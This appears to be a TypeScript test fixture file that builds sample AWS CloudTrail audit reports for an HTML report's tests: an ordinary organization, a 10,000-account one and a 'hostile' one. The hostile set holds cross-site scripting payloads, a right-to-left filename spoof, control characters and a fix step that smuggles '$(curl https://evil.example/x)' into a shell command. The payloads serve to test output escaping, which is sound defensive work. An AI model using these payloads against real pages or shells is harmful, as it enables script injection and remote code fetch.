/** Reports for the HTML report's tests: an ordinary organization, a hostile one, and 10,000 accounts. */
import { account, accountId, report } from '../unit/report-fixtures';
import { summarize, type AccountExemption, type AccountReport, type AuditReport, type ExemptionInForce } from '../../lambda/report-format';
import type { TrailVerdict } from '../../lambda/rule/types';

export const OUS = [
  { ouId: 'ou-ab12-prod0000', ouName: 'Prod' },
  { ouId: 'ou-ab12-dev00000', ouName: 'Dev' },
  { ouId: 'ou-ab12-legacy00', ouName: 'Legacy' },
];

const EXEMPTION: AccountExemption = { id: 'legacy-sunset', reason: 'Being shut down in Q3', owner: 'platform@example.com', expires: '2026-09-30', ticket: 'SEC-42', via: 'ou-ab12-legacy00' };

/** 12 accounts: 5 PASS, 4 FAIL (one exempt), 2 ERROR, 1 SKIPPED, in three OUs and none. */
export function ordinaryReport(): AuditReport {
  const ou = (i: number) => OUS[i];
  const accounts: AccountReport[] = [
    account(accountId(1), 'PASS', { accountName: 'management' }),
    account(accountId(2), 'PASS', { accountName: 'log-archive' }),
    account(accountId(3), 'PASS', { accountName: 'prod-web', ...ou(0) }),
    account(accountId(4), 'PASS', { accountName: 'prod-api', ...ou(0), warnings: [{ code: 'DELIVERY_ERROR', message: 'Trail main reports a delivery error.' }] }),
    account(accountId(5), 'PASS', { accountName: 'dev-tools', ...ou(1) }),
    account(accountId(6), 'FAIL', { accountName: 'dev-sandbox', ...ou(1) }),
    account(accountId(7), 'FAIL', { accountName: 'dev-data', ...ou(1), reasons: [{ code: 'MANAGEMENT_EVENTS_WRITE_ONLY', message: 'Trail data records write-only management events.' }] }),
    account(accountId(8), 'FAIL', { accountName: 'legacy-app', ...ou(2), exemption: EXEMPTION }),
    account(accountId(9), 'FAIL', { accountName: 'legacy-batch', ...ou(2) }),
    account(accountId(10), 'ERROR', { accountName: 'partner', ...ou(0) }),
    account(accountId(11), 'ERROR', { accountName: 'data-lake' }),
    account(accountId(12), 'SKIPPED', { accountName: 'old-marketing' }),
  ];
  const r = report(accounts, { notes: ['Organizations listed 12 accounts.'], errors: [] });
  r.summary.exempt = 1;
  r.run.exemptions = [{ id: EXEMPTION.id, accounts: [], ous: ['ou-ab12-legacy00'], reason: EXEMPTION.reason, owner: EXEMPTION.owner, expires: EXEMPTION.expires, ticket: 'SEC-42', daysLeft: 40 }];
  return r;
}

export const HOSTILE = {
  img: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(1)</script>',
  quotes: `"quoted' & <b>bold</b> &amp;`,
  rtl: '\u202Egnp.exe',
  controls: 'bell\u0007esc\u001b[2Jnul\u0000cr\rlf\n',
  separators: 'line\u2028para\u2029end',
  trailName: '<script>alert(2)</script>',
  trailArn: 'arn:aws:cloudtrail:us-east-1:100000000003:trail/"><svg onload=alert(3)>',
  ouId: 'ou-<b>x</b>-"q"',
  ouName: '<a href="javascript:alert(4)">click</a>',
  message: '<iframe src="javascript:alert(5)"></iframe> <!-- ]]>',
  step: 'aws cloudtrail start-logging --name "<img src=x onerror=alert(6)>"\n$(curl https://evil.example/x)',
};

/** Names, trails, OUs, reasons, fix steps, exemptions, notes and errors written to break out. */
export function hostileReport(): AuditReport {
  const trail: TrailVerdict = {
    arn: HOSTILE.trailArn, name: HOSTILE.trailName, homeRegion: 'us-east-1', ownerAccountId: accountId(3), isMultiRegionTrail: true,
    isOrganizationTrail: false, isLogging: false, managementEvents: 'ALL', detailsSource: 'self', result: 'FAILS',
    failures: [{ code: 'NOT_LOGGING', message: HOSTILE.message }], warnings: [],
  };
  const hostileExemption: AccountExemption = { id: 'x<script>', reason: HOSTILE.img, owner: HOSTILE.quotes, expires: '2026-12-31', via: 'account' };
  const accounts = [
    account(accountId(1), 'PASS', { accountName: HOSTILE.img }),
    account(accountId(2), 'FAIL', { accountName: HOSTILE.script, ouId: HOSTILE.ouId, ouName: HOSTILE.ouName }),
    account(accountId(3), 'FAIL', {
      accountName: HOSTILE.quotes, trails: [trail], closestTrailArn: HOSTILE.trailArn,
      reasons: [{ code: '<b>CODE</b>', message: HOSTILE.message, trailArn: HOSTILE.trailArn }], remediation: [HOSTILE.step],
    }),
    account(accountId(4), 'ERROR', { accountName: HOSTILE.rtl, exemption: hostileExemption }),
    account(accountId(5), 'SKIPPED', { accountName: HOSTILE.controls }),
    account(accountId(6), 'PASS', { accountName: HOSTILE.separators }),
  ];
  const r = report(accounts, { notes: [HOSTILE.script, HOSTILE.controls], errors: [{ code: 'LISTING_INCOMPLETE', message: HOSTILE.img }] });
  r.summary.exempt = 1;
  const inForce: ExemptionInForce = { id: 'x<script>', accounts: [accountId(4)], ous: [], reason: HOSTILE.img, owner: HOSTILE.quotes, expires: '2026-12-31', daysLeft: 3, expiringSoon: true };
  r.run.exemptions = [inForce];
  return r;
}

/**
 * `n` accounts as a large organization looks at its worst for the page's size: every account sees
 * its own trail (no sharing), a third of them fail with a fix step naming it, one in ten is ERROR
 * with its own message, spread over 40 OUs.
 */
export function largeReport(n = 10_000): AuditReport {
  const statuses = ['PASS', 'FAIL', 'PASS', 'FAIL', 'PASS', 'PASS', 'FAIL', 'PASS', 'ERROR', 'SKIPPED'] as const;
  const accounts = Array.from({ length: n }, (_, i) => {
    const id = accountId(i);
    const status = statuses[i % statuses.length];
    const ou = { ouId: `ou-ab12-${String(i % 40).padStart(8, '0')}`, ouName: `Team ${i % 40}` };
    const a = account(id, status, { accountName: `workload-${i}-${status.toLowerCase()}`, ...ou, durationMs: 800 });
    if (status === 'FAIL') {
      a.trails = [{
        arn: `arn:aws:cloudtrail:us-east-1:${id}:trail/main`, name: 'main', homeRegion: 'us-east-1', ownerAccountId: id, isMultiRegionTrail: true,
        isOrganizationTrail: false, isLogging: false, managementEvents: 'ALL', detailsSource: 'self', result: 'FAILS',
        failures: [{ code: 'NOT_LOGGING', message: 'Trail main is multi-region but not logging.' }], warnings: [],
      }];
    }
    return a;
  });
  const r = report(accounts);
  r.summary = summarize(accounts, 0);
  return r;
}
